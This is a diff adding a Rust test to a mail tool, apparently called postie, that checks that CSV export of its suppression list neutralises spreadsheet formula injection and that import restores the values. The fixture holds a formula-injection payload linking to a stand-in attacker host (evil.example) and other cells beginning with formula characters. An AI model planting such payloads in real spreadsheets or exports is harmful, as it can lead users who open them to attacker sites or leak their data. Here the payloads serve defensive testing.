@@ -440,6 +440,68 @@ async fn the_list_goes_out_and_comes_back_as_csv() {
     std::fs::remove_dir_all(&dir).unwrap();
 }
 
+/// Formula injection (issue 45, item 6): a cell that a spreadsheet would evaluate
+/// (an address or a note beginning with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return, say from a bounce's text) goes out with a single quote in front, so that
+/// the spreadsheet shows it as text, and comes back as it was.
+#[tokio::test]
+async fn a_cell_a_spreadsheet_would_evaluate_goes_out_neutralised_and_comes_back() {
+    let env = TestEnv::new("supp-formula").await;
+    env.postie(&["migrate"]).unwrap();
+    let formula = "=HYPERLINK(\"http://evil.example/?x\",\"open\")";
+    let entries = [
+        ("=1+1@example.com", "-2+3"),
+        ("+sum@example.com", formula),
+        ("-cmd@example.com", "@SUM(1)"),
+        ("'quoted@example.com", "\tcmd"),
+    ];
+    for (address, note) in entries {
+        let note = format!("--note={note}");
+        env.postie(&["suppression", "add", &note, "--", address])
+            .unwrap_or_else(|e| panic!("adding {address}: {e}"));
+    }
+    let dir = std::env::temp_dir().join(format!("postie-supp-formula-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let exported = dir.join("list.csv");
+    let path = exported.to_str().unwrap();
+    env.postie(&["suppression", "export", "--file", path])
+        .unwrap();
+    let text = std::fs::read_to_string(&exported).unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let mut cells = 0;
+    for row in reader.records() {
+        for cell in row.unwrap().iter() {
+            cells += 1;
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would evaluate: {cell:?} in\n{text}"
+            );
+        }
+    }
+    assert_eq!(cells, 7 * entries.len(), "{text}");
+    assert!(text.contains("'=1+1@example.com"), "{text}");
+
+    // Read back: the same addresses and notes.
+    for (address, _) in entries {
+        env.postie(&["suppression", "remove", "--", address])
+            .unwrap();
+    }
+    let imported = env.postie(&["suppression", "import", path]).unwrap();
+    assert!(imported.contains("4 rows read: 4 added"), "{imported}");
+    let rows: Vec<(String, String)> = suppressions(&env)
+        .await
+        .into_iter()
+        .map(|r| (r.0, r.4))
+        .collect();
+    for (address, note) in entries {
+        assert!(
+            rows.contains(&(address.to_string(), note.to_string())),
+            "{address} {note:?} in {rows:?}"
+        );
+    }
+    std::fs::remove_dir_all(&dir).unwrap();
+}
+
 /// Bounce rates per job type: a send-time hard bounce is recorded as feedback under
 /// its job's type, sends are counted per type, `postie status` shows both over the
 /// last hour and day (marking a rate over its threshold), and the maintenance instance
